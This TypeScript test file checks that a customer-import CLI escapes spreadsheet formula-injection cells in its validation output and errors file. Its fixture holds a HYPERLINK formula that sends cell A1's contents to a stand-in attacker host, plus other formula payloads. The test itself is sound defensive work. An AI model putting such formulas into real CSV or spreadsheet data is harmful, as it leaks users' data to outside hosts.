/**
 * Formula injection (issue 10, item 12) through the built CLI: `validate -o csv` and the errors file
 * of a run neutralise cells Excel would run as formulas, and the errors file fed back reads as written.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { RunningSandbox } from '../../../src/sandbox/server.js';
import { freshWorkDir, runCli, useSandboxPerFile } from '../../support/cli.js';
import { storedCustomers } from '../../support/customers.js';
import { runFiles } from '../../support/run-files.js';
import { requestCounts } from '../../support/sandbox.js';

let sandbox: RunningSandbox;
let configDir: string;

useSandboxPerFile({ login: true }, (ready) => ({ sandbox, configDir } = ready));

const header =
  'documentType;document;name;username;phone;password;customerRegistrationAddress.zipcode;customerRegistrationAddress.number';
const hostileName = '=HYPERLINK("http://evil.example/?"&A1;"clique")';
const hostileRow = `cpf;012.345.678-90;"${hostileName.replaceAll('"', '""')}";@SUM(1+1),=2+2;11987654321;Senha#2001;01310-100;100`;
const validRow = 'cpf;529.982.247-25;Bia;bia@example.com;11987654321;Senha#2002;01310-100;101';

describe('formula injection', () => {
  it('validate -o csv prefixes formula cells with a quote; nothing is sent', async () => {
    const dir = freshWorkDir();
    writeFileSync(join(dir, 'in.csv'), `${header}\r\n${hostileRow}\r\n`);
    const result = await runCli(['customer', 'validate', 'in.csv', '-o', 'csv'], { configDir, cwd: dir });
    expect(result.code).toBe(65);
    const rows = parse(result.stdout) as string[][];
    const values = rows.slice(1).map((row) => row[3]);
    // The piece after the comma is guarded too: a reader splitting this `,` file at `;` (or the other way) sees text.
    expect(values).toContain("'@SUM(1+1),'=2+2");
    expect(rows.flat().some((cell) => /^[=+@]/.test(cell))).toBe(false);
    expect(await requestCounts(sandbox)).toEqual({});
  });

  it('the errors file neutralises the hostile cells, and fed back reads them as written', async () => {
    const dir = freshWorkDir();
    writeFileSync(join(dir, 'in.csv'), `${header}\r\n${hostileRow}\r\n${validRow}\r\n`);
    const result = await runCli(['customer', 'create', 'in.csv', '--skip-invalid'], { configDir, cwd: dir });
    expect(result.code).not.toBe(0);
    expect(await storedCustomers(sandbox)).toHaveLength(1);
    const { errors } = runFiles(dir, 'in');
    expect(errors).toHaveLength(1);
    const text = readFileSync(join(dir, errors[0] as string), 'utf8').replace(/^\uFEFF/, '');
    const [, row] = parse(text, { delimiter: ';' }) as string[][];
    expect(row?.[2]).toBe(`'${hostileName}`);
    expect(row?.[3]).toBe("'@SUM(1+1),'=2+2");
    const again = await runCli(['customer', 'validate', errors[0] as string], { configDir, cwd: dir });
    expect(`${again.stdout}${again.stderr}`).not.toMatch(/'@SUM|'=2/);
    expect(again.stdout).toContain('with value [@SUM(1+1),=2+2]');
  });
});
